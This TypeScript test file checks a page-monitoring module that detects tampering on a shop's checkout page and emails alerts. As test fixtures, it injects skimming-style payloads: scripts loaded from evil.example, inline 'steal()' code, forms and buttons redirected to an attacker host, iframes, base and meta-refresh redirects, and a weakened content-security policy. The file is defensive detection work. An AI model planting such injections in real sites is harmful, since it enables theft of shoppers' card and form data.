import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { sql } from 'kysely';
import { testDatabase } from '../../../../test/database.ts';
import { expectOk, localeOf } from '../../../kernel/index.ts';
import { mailsJobs, mailsReactions, readMail, readMailbox } from '../../../modules/mails/index.ts';
import {
  approvePages,
  type Finding,
  pagewatchJobs,
  readFindings,
  readLastLook,
} from '../../../modules/pagewatch/index.ts';
import { saveMethod } from '../../../modules/payments/index.ts';
import { enqueue, runDueJobs } from '../../../platform/jobs/index.ts';
import { aSearch } from '../testing/a-search.ts';
import { aServer } from '../testing/a-server.ts';
import { aShop } from '../testing/a-shop.ts';
import { aStreet, type Sent } from '../testing/a-street.ts';
import { aTill } from '../testing/a-till.ts';
import { plainRenderer } from '../testing/plain-renderer.ts';
import { renderView } from '../view/index.ts';

const connection = await testDatabase();
const { db } = connection;
const HONEST = () => undefined;
const tampering: { change: (sent: Sent, path: string) => void } = { change: HONEST };
let server: FastifyInstance;
let street: Awaited<ReturnType<typeof aStreet>>;

before(async () => {
  await aShop(db, Temporal.Now.instant());
  await aTill(db);
  await db.transaction().execute(async (tx) => {
    const titles = new Map([[localeOf('en'), 'Card']]);
    const rest = { marketCodes: [], limits: new Map(), position: 2, isActive: true, isCapturedAtOnce: true };
    expectOk(await saveMethod(tx, { provider: 'stripe', mode: 'in_page', titles, ...rest }));
  });
  server = await aServer(connection, aSearch([]), {
    baseUrl: undefined,
    renderer: { ...plainRenderer, renderView },
  });
  street = await aStreet(server, {
    change: (sent, path) => {
      if (path.startsWith('/assets/'))
        Object.assign(sent, { status: 200, body: `/* ${path} as it was built */` });
      tampering.change(sent, path);
    },
  });
  await check();
  await approve('The first release');
});

after(async () => {
  await street.close();
  await server.close();
});

beforeEach(() => {
  tampering.change = HONEST;
});

async function check(): Promise<void> {
  const mail = { transport: undefined, from: undefined, baseUrl: street.baseUrl };
  const jobs = [...pagewatchJobs({ baseUrl: street.baseUrl }), ...mailsJobs(mail)];
  await db.transaction().execute((tx) => enqueue(tx, 'pagewatch.check', {}));
  await runDueJobs({ connection, jobs, reactions: mailsReactions(mail) });
}

async function approve(reason: string): Promise<void> {
  const lookId = (await readLastLook(db))?.id ?? '';
  const input = { lookId, approvedBy: 'Ada', reason, now: Temporal.Now.instant() };
  await db.transaction().execute(async (tx) => expectOk(await approvePages(tx, input)));
}

async function alerts(): Promise<string[]> {
  const { mails } = expectOk(await readMailbox(db, { limit: 50 }));
  return mails.filter(({ kind }) => kind === 'pages_changed').map(({ id }) => id);
}

const open = (): Promise<Finding[]> => readFindings(db, { isOpen: true });

const rows: readonly [title: string, found: string, change: (sent: Sent, path: string) => void][] = [
  [
    'a script from elsewhere',
    'added script https://evil.example/skim.js',
    inPage('</head>', '<script src="https://evil.example/skim.js?k=1"></script></head>'),
  ],
  [
    'a script in the page',
    'added inline script ',
    inPage('</main>', '<script>steal(document.forms[0])</script></main>'),
  ],
  [
    'a script in a template',
    'added inline script ',
    inPage('</main>', '<template><svg><script>1</script></svg></template></main>'),
  ],
  ['an attribute that runs', 'added event handler body onload', inPage('<body>', '<body onload="steal()">')],
  [
    'what a script of ours holds',
    'changed script /assets/checkout.js',
    atScript((sent) => {
      sent.body += 'steal()';
    }),
  ],
  [
    'a script that is gone',
    'removed script /assets/checkout.js',
    inPage(/<script type="module"[^>]*><\/script>/, ''),
  ],
  [
    'a policy that allows more',
    'changed header content-security-policy',
    inHeaders((headers) => {
      headers['content-security-policy'] = String(headers['content-security-policy']).replace(
        "'strict-dynamic'",
        "'unsafe-inline'",
      );
    }),
  ],
  [
    'a header that is gone',
    'removed header x-content-type-options',
    inHeaders((headers) => {
      headers['x-content-type-options'] = undefined;
    }),
  ],
  [
    'a policy that is gone',
    'removed header content-security-policy',
    inHeaders((headers) => {
      headers['content-security-policy'] = undefined;
    }),
  ],
  [
    'a form that goes elsewhere',
    'changed form ',
    inPage('action="/checkout"', 'action="https://evil.example/checkout"'),
  ],
  [
    'a button that goes elsewhere',
    'added form button',
    inPage('value="order"', 'value="order" formaction="https://evil.example"'),
  ],
  [
    'a form more',
    'added form ',
    inPage('</main>', '<form method="post" action="https://evil.example"></form></main>'),
  ],
  [
    'a frame',
    'added frame ',
    inPage('</main>', '<iframe src="https://evil.example/fields"></iframe></main>'),
  ],
  ['where addresses begin', 'added base ', inPage('<head>', '<head><base href="https://evil.example/">')],
  [
    'a move',
    'added meta refresh',
    inPage('<head>', '<head><meta http-equiv="refresh" content="5; url=https://evil.example">'),
  ],
];

for (const [title, expected, change] of rows) {
  test(`${title} is one alert`, async () => {
    const before = await alerts();
    tampering.change = change;
    await check();
    const found = await open();
    assert.deepEqual(
      found.map((one) => `${one.change} ${one.kind} ${one.subject}`),
      [expected],
    );
    assert.equal(found[0]?.page, '/checkout');
    assert.equal((await alerts()).length, before.length + 1);
  });
}

test('what stays is told once, closed when it is gone, and told again when it comes back', async () => {
  const count = (await alerts()).length;
  const steps: (readonly [typeof HONEST | (typeof rows)[0][2], number, number])[] = [
    [rows[0]?.[2] ?? HONEST, 1, 1],
    [rows[0]?.[2] ?? HONEST, 1, 1],
    [HONEST, 0, 1],
    [rows[0]?.[2] ?? HONEST, 1, 2],
    [HONEST, 0, 2],
  ];
  for (const [change, openNow, alertsSoFar] of steps) {
    tampering.change = change;
    await check();
    assert.deepEqual([(await open()).length, (await alerts()).length - count], [openNow, alertsSoFar]);
  }
});

test('pages that are as they were raise nothing, with another nonce and another cart each time', async () => {
  const before = await alerts();
  await check();
  await check();
  assert.deepEqual([await open(), (await alerts()).length], [[], before.length]);
});

test('the page with a provider’s own fields is watched too, and its vendor’s script only by its address', async () => {
  const pages = (await readLastLook(db))?.pages ?? [];
  assert.deepEqual(
    pages.map(({ page }) => page),
    ['/checkout', '/checkout/pay?specimen=stripe'],
  );
  const scripts = pages[1]?.traits.filter(({ kind }) => kind === 'script') ?? [];
  assert.deepEqual(
    scripts.map(({ subject, value }) => [subject, value.replace(/-.*/, '')]),
    [
      ['https://js.stripe.com/v3/', 'kept by its vendor'],
      ['/assets/pay.js', 'sha256'],
    ],
  );
  tampering.change = (sent, path) => {
    if (path.startsWith('/checkout/pay')) sent.body = sent.body.replace('js.stripe.com', 'js.stripe.example');
  };
  await check();
  const found = (await open()).map(({ change, page, subject }) => [change, page, subject]).toSorted();
  assert.deepEqual(found, [
    ['added', '/checkout/pay?specimen=stripe', 'https://js.stripe.example/v3/'],
    ['removed', '/checkout/pay?specimen=stripe', 'https://js.stripe.com/v3/'],
  ]);
});

test('several findings of one run are one mail to the shop’s own address, in words and with what was and is', async () => {
  const before = new Set(await alerts());
  tampering.change = (sent, path) => {
    if (path !== '/checkout') return;
    sent.body = sent.body.replace('action="/checkout"', 'action="https://evil.example/checkout"');
    sent.headers['x-content-type-options'] = undefined;
  };
  await check();
  const [id, ...others] = (await alerts()).filter((one) => !before.has(one));
  assert.equal(others.length, 0);
  const { mails } = expectOk(await readMailbox(db, { limit: 50 }));
  const row = mails.find((one) => one.id === id);
  const mail = row && (await readMail(db, row.id));
  assert.equal(mail?.to, 'hello@nordlicht.example');
  assert.match(mail?.text ?? '', /was: post \/checkout[\s\S]*is: post https:\/\/evil\.example\/checkout/);
  assert.match(mail?.subject ?? '', /2 findings/);
});

test('what was approved as it is raises nothing any more, and who said so, and why, cannot be changed', async () => {
  tampering.change = inPage('</main>', '<iframe src="https://fields.example/x"></iframe></main>');
  await check();
  assert.equal((await open()).length, 1);
  await approve('A new way to pay');
  assert.deepEqual(await open(), []);
  await check();
  assert.deepEqual(await open(), []);
  await assert.rejects(sql`update pagewatch.approval set reason = 'other'`.execute(db), /append-only/);
  tampering.change = HONEST;
  await check();
  assert.deepEqual(
    (await open()).map(({ change, kind }) => `${change} ${kind}`),
    ['removed frame'],
  );
  await approve('Taken back');
});

test('an approval needs who and why, and is for what was read, not for what was seen since', async () => {
  const lookId = (await readLastLook(db))?.id ?? '';
  await check();
  const now = Temporal.Now.instant();
  const ask = (changes: object) => {
    const input = { lookId, approvedBy: 'Ada', reason: 'a reason', now, ...changes };
    return db.transaction().execute((tx) => approvePages(tx, input));
  };
  const answers = [await ask({ approvedBy: ' ' }), await ask({ reason: '' }), await ask({})];
  assert.deepEqual(
    answers.map((answer) => (answer.ok ? 'ok' : answer.refusal.code)),
    ['missing', 'missing', 'seen_again'],
  );
});

function inPage(part: string | RegExp, replacement: string) {
  return (sent: Sent, path: string) => {
    if (path !== '/checkout' || sent.body === '') return;
    const changed = sent.body.replace(part, replacement);
    assert.notEqual(changed, sent.body, `the page has no ${part}`);
    sent.body = changed;
  };
}

function inHeaders(change: (headers: Sent['headers']) => void) {
  return (sent: Sent, path: string) => {
    if (path === '/checkout') change(sent.headers);
  };
}

function atScript(change: (sent: Sent) => void) {
  return (sent: Sent, path: string) => {
    if (path === '/assets/checkout.js') change(sent);
  };
}
